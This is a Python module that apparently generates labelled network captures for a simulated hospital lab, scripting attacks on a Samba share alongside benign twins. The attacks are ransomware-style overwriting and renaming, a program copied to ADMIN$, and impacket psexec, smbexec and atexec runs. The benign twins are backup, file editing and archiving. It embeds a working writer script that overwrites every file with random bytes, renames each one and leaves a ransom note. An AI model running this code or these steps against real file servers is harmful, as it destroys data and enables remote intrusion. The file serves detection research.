"""Work and attacks on a Samba file server: ransomware, tools copied, and their benign twins."""

from __future__ import annotations

from functools import partial
from pathlib import Path

from sample_pcaps.hospital import HOSTS
from sample_pcaps.lab.domain import PASSWORD, standalone_server
from sample_pcaps.lab.hosts import Machine
from sample_pcaps.lab.stories.directory import IMPACKET, impacket
from sample_pcaps.lab.story import NETFLOW, SPAN, Stage, Story, Truth

_SERVER = HOSTS["FS1"]
_CLIENT = HOSTS["EMR-3E-03"]
_COUNT = 60
_AUTH = ("-U", f"kanri%{PASSWORD}")

#: Plays what ransomware does through one SMB session: read, overwrite with noise, rename, note.
_WRITER = """
import os, sys
from impacket.smbconnection import SMBConnection
server, password, rate = sys.argv[1], sys.argv[2], float(sys.argv[3])
import io, time
smb = SMBConnection(server, server)
smb.login("kanri", password)
names = [f.get_longname() for f in smb.listPath("bumon", "*") if not f.is_directory()]
for name in names:
    plain = io.BytesIO()
    smb.getFile("bumon", name, plain.write)
    noise = io.BytesIO(os.urandom(len(plain.getvalue())))
    smb.putFile("bumon", name, noise.read)
    smb.rename("bumon", name, name + ".locked")
    time.sleep(rate)
smb.putFile("bumon", "README_RESTORE.txt", io.BytesIO(b"pay").read)
print(len(names), "files")
"""


def documents(folder: Path, count: int = _COUNT) -> None:
    """Fill a share with documents as a ward has them: text, some kilobytes each."""
    folder.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        lines = (f"{number} 看護記録 {line} 架空の記載です。\n" for line in range(80 + number * 3))
        (folder / f"kiroku{number:03}.txt").write_text("".join(lines), encoding="utf-8")


#: What impacket speaks with a server that offers SMB 3 is always encrypted; with this it is not.
_PLAIN = "server max protocol = SMB2_10\n"


def _share(stage: Stage, more: str = _PLAIN) -> Machine:
    server = stage[_SERVER.name]
    documents(server.folder / "files" / "bumon")
    standalone_server(
        server,
        {"bumon": server.folder / "files" / "bumon", "ADMIN$": server.folder / "files" / "windows",
         "C$": server.folder / "files" / "c"},
        more,
    )  # fmt: skip
    return server


def ransomware(stage: Stage, rate_s: float) -> None:
    _share(stage)
    client = stage[_CLIENT.name]
    script = client.write("writer.py", _WRITER)
    truth = Truth("a terminal reads, overwrites and renames sixty documents of a share",
                  ("T1486",), _CLIENT.ip, (_SERVER.ip,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        stage.note(client.run("/usr/bin/python3", script, _SERVER.ip, PASSWORD, str(rate_s),
                              timeout_s=100))  # fmt: skip


def ransomware_encrypted(stage: Stage) -> None:
    """The same over SMB3 encryption, by smbclient: names and contents are hidden."""
    _share(stage, "server smb encrypt = required\n")
    client = stage[_CLIENT.name]
    (client.folder / "files" / "noise").write_bytes(bytes(range(256)) * 40)
    steps = []
    for number in range(_COUNT):
        name = f"kiroku{number:03}.txt"
        steps += [f"get {name} plain", f"put noise {name}", f"rename {name} {name}.locked"]
    truth = Truth("the same inside SMB3 encryption", ("T1486",), _CLIENT.ip, (_SERVER.ip,),
                  (SPAN, NETFLOW))  # fmt: skip
    with stage.happens(truth):
        client.run("smbclient", f"//{_SERVER.ip}/bumon", *_AUTH, "-c", ";".join(steps),
                   timeout_s=100)  # fmt: skip


def tools_copied(stage: Stage) -> None:
    server, client = _share(stage), stage[_CLIENT.name]
    client.write("tool.exe", "MZ" + "\0" * 4000)
    truth = Truth("a program is copied to ADMIN$", ("T1021.002", "T1570"), _CLIENT.ip,
                  (server.ip,), (SPAN,))  # fmt: skip
    with stage.happens(truth):
        client.run("smbclient", f"//{server.ip}/ADMIN$", *_AUTH, "-c", "put tool.exe svchelp.exe")


def encrypted_run(stage: Stage) -> None:
    """psexec as impacket does it with today's servers: inside SMB3 encryption."""
    remote_run(stage, "psexec", "psexec inside SMB3 encryption", "T1569.002", ("whoami",), "")


def remote_run(
    stage: Stage,
    name: str,
    what: str,
    technique: str,
    words: tuple[str, ...],
    more: str = _PLAIN,
) -> None:
    """A remote-execution example of impacket, as far as Samba answers it."""
    server, client = _share(stage, more), stage[_CLIENT.name]
    truth = Truth(what, (technique, "T1021.002", "T1021"), _CLIENT.ip, (server.ip,), (SPAN,))
    with stage.happens(truth):
        told = client.run(*impacket(name, f"kanri:{PASSWORD}@{server.ip}", *words), check=False,
                          timeout_s=30)  # fmt: skip
        stage.note(f"{name}: {told.strip()[-200:]}")


def backup(stage: Stage) -> None:
    """The benign twin: the backup server reads every file of the share."""
    server, reader = _share(stage), stage["BACKUP"]
    reader.run("smbclient", f"//{server.ip}/bumon", *_AUTH, "-c", "prompt off;recurse on;mget *")


def file_work(stage: Stage) -> None:
    """People read, change and save documents, some renamed on the way as office programs do."""
    server = _share(stage)
    for name in (_CLIENT.name, "EMR-3W-02"):
        client = stage[name]
        client.write("new.txt", "記録の追記。\n" * 200)
        for number in range(8):
            doc = f"kiroku{number:03}.txt"
            client.run(
                "smbclient", f"//{server.ip}/bumon", *_AUTH, "-c",
                f"get {doc} old;put new.txt ~{name}{number}.tmp;del {doc};"
                f"rename ~{name}{number}.tmp {doc}",
            )  # fmt: skip


def archive(stage: Stage) -> None:
    """The benign twin of the writer: sixty documents are moved to an archive, zipped beside."""
    server, client = _share(stage), stage[_CLIENT.name]
    client.write("batch.zip", "PK" + "\x01\x02\x03" * 30000)
    steps = [f"get kiroku{n:03}.txt d{n}" for n in range(_COUNT)]
    client.run("smbclient", f"//{server.ip}/bumon", *_AUTH, "-c",
               ";".join([*steps, "mkdir 2026", "put batch.zip 2026\\batch.zip"]))  # fmt: skip


_RUNS = (
    ("psexec", "psexec by impacket, as far as Samba goes", "T1569.002", ("whoami",)),
    ("smbexec", "smbexec by impacket, as far as Samba goes", "T1569.002", ()),
    ("atexec", "atexec by impacket, as far as Samba goes", "T1053.002", ("whoami",)),
)
_SMB = ("smbd:samba", "smbpasswd:samba-common-bin", "smbclient:smbclient", IMPACKET)
_HOSTS = (_SERVER.name, _CLIENT.name)
STORIES = (
    Story("ransomware", "Ransomware on a share", partial(ransomware, rate_s=0.05), _SMB, _HOSTS),
    Story("ransomware-slow", "Ransomware on a share, two files a second",
          partial(ransomware, rate_s=0.5), _SMB, _HOSTS, is_short=False, limit_s=180),
    Story("ransomware-smb3", "Ransomware inside SMB3 encryption", ransomware_encrypted, _SMB,
          _HOSTS, is_short=False),
    Story("tools-copied", "A program on ADMIN$", tools_copied, _SMB, _HOSTS, is_short=False),
    *(
        Story(f"remote-{name}", what,
              partial(remote_run, name=name, what=what, technique=technique, words=words),
              _SMB, _HOSTS, is_short=False)
        for name, what, technique, words in _RUNS
    ),
    Story("remote-psexec-smb3", "psexec inside SMB3 encryption", encrypted_run, _SMB, _HOSTS,
          is_short=False),
    Story("benign-backup", "Backup reads a share", backup, _SMB, (_SERVER.name, "BACKUP"),
          is_short=False, is_benign=True),
    Story("benign-files", "People work on a share", file_work, _SMB, (*_HOSTS, "EMR-3W-02"),
          is_benign=True),
    Story("benign-archive", "Documents are archived", archive, _SMB, _HOSTS, is_short=False,
          is_benign=True),
)  # fmt: skip
